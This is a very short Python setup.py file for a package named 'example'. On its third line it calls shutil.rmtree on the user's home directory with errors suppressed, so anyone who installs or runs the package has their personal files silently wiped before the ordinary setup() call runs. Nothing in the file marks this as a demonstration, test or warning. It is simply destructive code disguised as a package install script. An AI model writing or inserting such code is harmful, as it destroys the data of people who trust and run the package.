import shutil, os
from setuptools import setup
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
setup(name='example', version='1.0')
